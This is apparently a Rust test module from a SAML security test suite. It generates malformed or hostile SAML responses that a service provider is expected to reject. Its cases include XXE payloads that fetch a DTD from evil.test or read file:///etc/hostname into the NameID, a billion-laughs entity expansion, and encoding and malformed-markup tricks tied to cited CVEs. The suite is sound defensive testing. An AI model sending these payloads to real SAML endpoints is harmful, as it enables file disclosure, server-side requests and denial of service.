//! Markup that no SAML message needs: document types, other encodings, text that is not well-formed.

use super::{altered, row};
use crate::edit::{Edit, Place};
use crate::{Act, Family, On, Row, Scene, Who};

const fn bytes(
    name: &'static str,
    make: fn(&str, &Scene<'_>) -> Vec<u8>,
    code: &'static str,
    says: &'static str,
) -> Row {
    row(name, Act::Bytes(make), code, says)
}

const fn prolog(name: &'static str, text: &'static str, says: &'static str) -> Row {
    altered(name, Edit::Put(Place::Before, "Response", text), "saml/doctype", says)
}

pub static DOCTYPE: Family = Family {
    name: "document types and entities",
    class: "DOCTYPE and entities",
    who: Who::Network,
    on: On::Response,
    source: "XXE and entity expansion (CWE-611, CWE-776); CVE-2025-23369 (entities); ATTLIST default ids",
    requirement: "wire-front-door",
    rows: &[
        prolog("doctype-empty", "<!DOCTYPE Response>", "An empty document type."),
        prolog("doctype-internal", "<!DOCTYPE Response [<!ENTITY x \"y\">]>", "A document type with an entity."),
        prolog(
            "doctype-external",
            "<!DOCTYPE Response SYSTEM \"https://evil.test/x.dtd\">",
            "A document type on another host.",
        ),
        prolog(
            "doctype-parameter-entity",
            "<!DOCTYPE Response [<!ENTITY % x SYSTEM \"https://evil.test/x\"> %x;]>",
            "A parameter entity on another host.",
        ),
        prolog(
            "doctype-billion-laughs",
            "<!DOCTYPE Response [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
            "Entities that grow.",
        ),
        prolog("doctype-attlist-id", "<!DOCTYPE Response [<!ATTLIST x ID ID \"_evil\">]>", "Ids by default."),
        altered(
            "doctype-lower-case",
            Edit::Put(Place::Before, "Response", "<!doctype Response>"),
            "saml/doctype",
            "A document type in small letters, which XML does not know.",
        ),
        altered(
            "xxe-in-name-id",
            Edit::All(&[
                Edit::Put(
                    Place::Before,
                    "Response",
                    "<!DOCTYPE Response [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>",
                ),
                Edit::Text("Response/Assertion/Subject/NameID", crate::Val::Is("&x;")),
            ]),
            "saml/doctype",
            "The name is to be read from a file.",
        ),
        altered(
            "entity-undeclared",
            Edit::Text("Response/Assertion/Subject/NameID", crate::Val::Of(|old| format!("{old}&nbsp;"))),
            "saml/malformed",
            "An entity that nobody declared.",
        ),
        altered(
            "entity-declaration-alone",
            Edit::Put(Place::First, "Response", "<!ENTITY x \"y\">"),
            "saml/doctype",
            "An entity is declared inside the message.",
        ),
    ],
};

fn utf16(xml: &str, big: bool, mark: bool) -> Vec<u8> {
    let units = mark.then_some(0xfeff).into_iter().chain(xml.encode_utf16());
    units.flat_map(|u| if big { u.to_be_bytes() } else { u.to_le_bytes() }).collect()
}

/// Puts bytes into the name.
fn in_name(xml: &str, what: &[u8]) -> Vec<u8> {
    let at = crate::edit::find(xml, "Response/Assertion/Subject/NameID").map_or(0, |s| s.inside);
    [&xml.as_bytes()[..at], what, &xml.as_bytes()[at..]].concat()
}

pub static ENCODING: Family = Family {
    name: "other encodings",
    class: "encoding tricks",
    who: Who::Network,
    on: On::Response,
    source: "Parser differentials: CVE-2025-25291, CVE-2025-25292; SAML messages are UTF-8",
    requirement: "wire-front-door",
    rows: &[
        bytes("utf-16-le", |x, _| utf16(x, false, true), "saml/not-utf8", "UTF-16, little end first."),
        bytes("utf-16-be", |x, _| utf16(x, true, true), "saml/not-utf8", "UTF-16, big end first."),
        bytes("utf-16-unmarked", |x, _| utf16(x, false, false), "saml/not-utf8", "UTF-16 without a mark."),
        bytes("utf-32", |x, _| x.chars().flat_map(|c| (c as u32).to_le_bytes()).collect(), "saml/not-utf8", "UTF-32."),
        bytes(
            "declared-utf-16",
            |x, _| format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{x}").into_bytes(),
            "saml/declaration",
            "Says UTF-16 and is UTF-8.",
        ),
        bytes(
            "declared-latin-1",
            |x, _| format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{x}").into_bytes(),
            "saml/declaration",
            "Says Latin-1 and is UTF-8.",
        ),
        bytes(
            "declared-utf-7",
            |x, _| format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{x}").into_bytes(),
            "saml/declaration",
            "Says UTF-7 and is UTF-8.",
        ),
        bytes("nul-in-name", |x, _| in_name(x, b"\0"), "saml/not-utf8", "A NUL in the name."),
        bytes("nul-after", |x, _| [x.as_bytes(), b"\0"].concat(), "saml/not-utf8", "A NUL after the message."),
        bytes("invalid-utf-8", |x, _| in_name(x, b"\xff"), "saml/not-utf8", "A byte that is no UTF-8."),
        bytes("overlong-utf-8", |x, _| in_name(x, b"\xc1\xa1"), "saml/not-utf8", "A letter encoded longer than it is."),
        bytes("surrogate", |x, _| in_name(x, b"\xed\xa0\x80"), "saml/not-utf8", "Half a surrogate pair."),
        bytes("control-character", |x, _| in_name(x, b"\x01"), "saml/malformed", "A control character in the name."),
        bytes("character-reference-nul", |x, _| in_name(x, b"&#0;"), "saml/malformed", "A NUL by reference."),
        bytes(
            "character-reference-control",
            |x, _| in_name(x, b"&#1;"),
            "saml/malformed",
            "A control character by reference.",
        ),
        bytes(
            "character-reference-huge",
            |x, _| in_name(x, b"&#x110000;"),
            "saml/malformed",
            "A character beyond Unicode.",
        ),
        bytes(
            "noncharacter",
            |x, _| in_name(x, "\u{fffe}".as_bytes()),
            "saml/malformed",
            "A character that XML forbids.",
        ),
        row(
            "base64-garbage",
            Act::Form(|encoded| vec![("SAMLResponse".into(), format!("%%%{encoded}"))]),
            "saml/base64",
            "The form's value is not base64.",
        ),
        row(
            "base64-url",
            Act::Form(|encoded| vec![("SAMLResponse".into(), format!("{}-_", encoded.trim_end_matches('=')))]),
            "saml/base64",
            "The form's value is base64 for addresses.",
        ),
        row(
            "base64-trailing",
            Act::Form(|encoded| vec![("SAMLResponse".into(), format!("{}====", encoded.trim_end_matches('=')))]),
            "saml/base64",
            "Too much padding.",
        ),
        row(
            "form-empty",
            Act::Form(|_| vec![("SAMLResponse".into(), String::new())]),
            "saml/missing",
            "The form's value is empty.",
        ),
        row(
            "form-twice",
            Act::Form(|encoded| vec![("SAMLResponse".into(), encoded.into()), ("SAMLResponse".into(), encoded.into())]),
            "form/repeated-field",
            "The message stands in the form twice.",
        ),
        row(
            "form-field-flood",
            Act::Form(|encoded| {
                (0..100)
                    .map(|i| (format!("x{i}"), "y".into()))
                    .chain([("SAMLResponse".into(), encoded.into())])
                    .collect()
            }),
            "form/too-many-fields",
            "A hundred fields before the message.",
        ),
    ],
};

pub static MALFORMED: Family = Family {
    name: "markup that is not well-formed",
    class: "malformed markup",
    who: Who::Network,
    on: On::Response,
    source: "samael finding S3 (libxml2 recovers); parser differentials",
    requirement: "wire-front-door",
    rows: &[
        bytes(
            "truncated-half",
            |x, _| x.as_bytes()[..x.len() / 2].to_vec(),
            "saml/malformed",
            "The second half is missing.",
        ),
        bytes(
            "truncated-last",
            |x, _| x.as_bytes()[..x.len() - 1].to_vec(),
            "saml/malformed",
            "The last character is missing.",
        ),
        bytes(
            "truncated-root-end",
            |x, _| x.trim_end_matches("</saml2p:Response>").as_bytes().to_vec(),
            "saml/malformed",
            "The root is never closed.",
        ),
        bytes("empty", |_, _| b" ".to_vec(), "saml/malformed", "There is only a space."),
        bytes(
            "trailing-element",
            |x, _| format!("{x}<x/>").into_bytes(),
            "saml/malformed",
            "An element follows the message.",
        ),
        bytes("trailing-text", |x, _| format!("{x}x").into_bytes(), "saml/malformed", "Text follows the message."),
        bytes(
            "two-documents",
            |x, _| format!("{x}{x}").into_bytes(),
            "saml/malformed",
            "The message stands there twice.",
        ),
        bytes("leading-text", |x, _| format!("x{x}").into_bytes(), "saml/malformed", "Text precedes the message."),
        bytes(
            "mismatched-tags",
            |x, _| x.replacen("</saml2:Subject>", "</saml2:Sub>", 1).into_bytes(),
            "saml/malformed",
            "An element is closed by another name.",
        ),
        altered(
            "attribute-twice",
            Edit::Fn(|x, _| Some(x.replacen(" Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\"", 1))),
            "saml/malformed",
            "An attribute stands there twice.",
        ),
        altered(
            "attribute-twice-by-prefix",
            Edit::Fn(|x, _| {
                Some(x.replacen(
                    " Version=\"2.0\"",
                    " Version=\"2.0\" xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:a=\"1\" q:a=\"2\"",
                    1,
                ))
            }),
            "saml/malformed",
            "An attribute stands there twice under two prefixes of one namespace.",
        ),
        altered(
            "attribute-unquoted",
            Edit::Fn(|x, _| Some(x.replacen(" Version=\"2.0\"", " Version=2.0", 1))),
            "saml/malformed",
            "An attribute without quotes.",
        ),
        altered(
            "attribute-with-less-than",
            Edit::Fn(|x, _| Some(x.replacen(" Version=\"2.0\"", " Version=\"2.0\" x=\"<\"", 1))),
            "saml/malformed",
            "An attribute contains `<`.",
        ),
        altered(
            "prefix-undeclared",
            Edit::Fn(|x, _| Some(x.replacen("<saml2p:Status>", "<y:z/><saml2p:Status>", 1))),
            "saml/malformed",
            "A prefix that nobody declared.",
        ),
        altered(
            "cdata-end-in-text",
            Edit::Text("Response/Assertion/Subject/NameID", crate::Val::Of(|old| format!("{old}]]>"))),
            "saml/malformed",
            "Text contains `]]>`.",
        ),
        bytes(
            "xml-1-1",
            |x, _| format!("<?xml version=\"1.1\"?>{x}").into_bytes(),
            "saml/declaration",
            "XML of version 1.1.",
        ),
        bytes(
            "declaration-late",
            |x, _| format!("\n<?xml version=\"1.0\"?>{x}").into_bytes(),
            "saml/processing-instruction",
            "The XML declaration does not come first.",
        ),
        bytes("json", |_, _| b"{\"NameID\":\"mallory\"}".to_vec(), "saml/malformed", "JSON instead of XML."),
    ],
};
